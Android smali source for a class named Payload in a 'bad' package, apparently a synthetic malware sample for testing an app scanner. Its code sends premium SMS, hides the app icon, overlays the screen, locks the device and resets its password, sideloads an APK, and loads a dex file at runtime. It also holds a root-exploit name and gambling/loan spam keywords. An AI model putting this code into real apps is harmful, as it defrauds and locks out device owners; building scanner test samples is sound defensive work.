.class public Lcom/appwarden/screen/bad/Payload;
.super Ljava/lang/Object;

.method public static sendPremium(Landroid/content/Context;)V
    .locals 6
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "1066185829"
    const/4 v2, 0x0
    const-string v3, "KT"
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method

.method public static hideIcon(Landroid/content/Context;)V
    .locals 4
    new-instance v0, Landroid/content/ComponentName;
    const-class v1, Lcom/appwarden/screen/bad/MainActivity;
    invoke-direct {v0, p0, v1}, Landroid/content/ComponentName;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
    invoke-virtual {p0}, Landroid/content/Context;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v2
    const/4 v1, 0x2
    const/4 v3, 0x1
    invoke-virtual {v2, v0, v1, v3}, Landroid/content/pm/PackageManager;->setComponentEnabledSetting(Landroid/content/ComponentName;II)V
    return-void
.end method

.method public static overlay(Landroid/content/Context;)V
    .locals 4
    const-string v0, "activity"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/app/ActivityManager;
    const/4 v1, 0x1
    invoke-virtual {v0, v1}, Landroid/app/ActivityManager;->getRunningTasks(I)Ljava/util/List;
    const-string v0, "window"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/view/WindowManager;
    new-instance v2, Landroid/view/View;
    invoke-direct {v2, p0}, Landroid/view/View;-><init>(Landroid/content/Context;)V
    new-instance v3, Landroid/view/WindowManager$LayoutParams;
    invoke-direct {v3}, Landroid/view/WindowManager$LayoutParams;-><init>()V
    invoke-interface {v0, v2, v3}, Landroid/view/WindowManager;->addView(Landroid/view/View;Landroid/view/ViewGroup$LayoutParams;)V
    return-void
.end method

.method public static lock(Landroid/content/Context;)V
    .locals 3
    const-string v0, "device_policy"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/app/admin/DevicePolicyManager;
    invoke-virtual {v0}, Landroid/app/admin/DevicePolicyManager;->lockNow()V
    const-string v1, "4815162342"
    const/4 v2, 0x0
    invoke-virtual {v0, v1, v2}, Landroid/app/admin/DevicePolicyManager;->resetPassword(Ljava/lang/String;I)Z
    return-void
.end method

.method public static install(Landroid/content/Context;)V
    .locals 3
    new-instance v0, Landroid/content/Intent;
    const-string v1, "android.intent.action.VIEW"
    invoke-direct {v0, v1}, Landroid/content/Intent;-><init>(Ljava/lang/String;)V
    const-string v1, "file:///sdcard/update.apk"
    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    const-string v2, "application/vnd.android.package-archive"
    invoke-virtual {v0, v1, v2}, Landroid/content/Intent;->setDataAndType(Landroid/net/Uri;Ljava/lang/String;)Landroid/content/Intent;
    invoke-virtual {p0, v0}, Landroid/content/Context;->startActivity(Landroid/content/Intent;)V
    return-void
.end method

.method public static load(Landroid/content/Context;)V
    .locals 5
    const-string v0, "AES"
    invoke-static {v0}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v0
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Ljavax/crypto/Cipher;->doFinal([B)[B
    new-instance v0, Ldalvik/system/DexClassLoader;
    const-string v1, "/data/data/com.appwarden.screen.bad/files/p.dex"
    const-string v2, "/data/data/com.appwarden.screen.bad/cache"
    const/4 v3, 0x0
    invoke-virtual {p0}, Landroid/content/Context;->getClassLoader()Ljava/lang/ClassLoader;
    move-result-object v4
    invoke-direct {v0, v1, v2, v3, v4}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
    return-void
.end method

.method public static texts()V
    .locals 1
    const-string v0, "rageagainstthecage"
    const-string v0, "\u65f6\u65f6\u5f69 \u5317\u4eac\u8d5b\u8f66 \u516d\u5408\u5f69"
    const-string v0, "\u767e\u5bb6\u4e50 \u771f\u4eba\u5a31\u4e50 \u8001\u864e\u673a \u6295\u6ce8"
    const-string v0, "\u65e0\u89c6\u5f81\u4fe1 \u9ed1\u6237\u53ef\u8d37 \u79d2\u4e0b\u6b3e"
    const-string v0, "\u8d37\u6b3e \u501f\u6b3e \u653e\u6b3e \u8fd8\u6b3e \u989d\u5ea6"
    return-void
.end method
